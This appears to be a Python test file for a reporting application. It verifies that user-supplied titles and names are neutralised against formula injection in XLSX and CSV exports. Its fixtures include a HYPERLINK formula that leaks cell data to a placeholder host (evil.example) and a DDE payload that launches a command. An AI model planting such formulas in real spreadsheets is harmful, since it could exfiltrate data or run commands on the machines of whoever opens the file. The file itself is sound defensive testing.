"""S3 (issue 9): a user's text never becomes a formula in a report's XLSX or CSV."""

import csv
import io
import re
import zipfile

from nsp.models import Indicator, Objective
from nsp.spreadsheet import safe_cell, safe_row
from reporting.tests.test_runners import produce, read

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_safe_cell_follows_the_owasp_rule():
    for text in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Fewer burglaries") == "Fewer burglaries"
    assert safe_row([12, -3.5, None, True, "-x"]) == [12, -3.5, None, True, "'-x"]


def test_a_formula_typed_as_a_title_stays_text_in_the_xlsx(world, media):
    Objective.objects.filter(pk=world.road.pk).update(title=HOSTILE, description="@cmd|' /C calc'!A0")
    Indicator.objects.filter(objective=world.road).update(name=HOSTILE)
    run = produce(world, world.chief_a, "plan_progress", "xlsx")
    with zipfile.ZipFile(io.BytesIO(read(run))) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        xml = {name: archive.read(name).decode() for name in sheets}
        strings = archive.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in archive.namelist() else ""
    assert sheets
    for name, text in xml.items():
        assert not re.search(r"<(\w+:)?f[ >]", text), f"a formula in {name}"
    assert "HYPERLINK" in strings or any("HYPERLINK" in t for t in xml.values())
    assert "'=HYPERLINK" in strings or any("'=HYPERLINK" in t for t in xml.values())


def test_a_formula_typed_as_a_title_stays_text_in_the_csv(world, media):
    Objective.objects.filter(pk=world.road.pk).update(title=HOSTILE)
    Indicator.objects.filter(objective=world.road).update(name=HOSTILE, unit="+1 cases")
    run = produce(world, world.chief_a, "plan_progress", "csv")
    rows = list(csv.reader(io.StringIO(read(run).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells and "'+1 cases" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    # Numbers stay numbers: a negative figure is written as the number it is.
    assert all(not c.startswith("-") or re.fullmatch(r"-[\d.]+", c) for c in cells)
